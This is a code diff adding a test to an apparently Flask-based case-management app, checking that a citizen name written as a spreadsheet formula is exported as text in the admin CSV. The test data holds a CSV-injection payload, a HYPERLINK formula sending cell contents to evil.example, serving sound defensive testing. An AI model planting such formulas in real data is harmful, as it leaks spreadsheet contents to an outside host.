@@ -8,6 +8,9 @@ from typing import Any
 
 from flask import Flask
 
+from engine.db import unit_of_work
+from engine.store import directory
+
 from .conftest import Browser, Citizen, act
 
 
@@ -104,3 +107,14 @@ def test_the_csv_export_has_what_the_filters_found(browser: Any, citizen: Citize
     theirs = list(csv.DictReader(io.StringIO(official.get("/staff/cases.csv").get_data(as_text=True).lstrip("\ufeff"))))
     assert certificate in [r["reference"] for r in theirs]
     assert "applicant" not in theirs[0]
+
+
+def test_a_name_typed_as_a_formula_is_exported_as_text(browser: Any, citizen: Citizen, platform: Any) -> None:
+    with unit_of_work(platform.write_sessions) as db:  # a citizen may call themselves anything
+        person = directory.find_user(db, "citizen")
+        assert person is not None
+        person.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Оксана")'
+    reference, _ = citizen.apply("family_composition_certificate", "issued")
+    reply = browser("admin").get(f"/admin/cases.csv?reference={reference}")
+    (row,) = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True).lstrip("\ufeff"))))
+    assert row["applicant"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Оксана")'
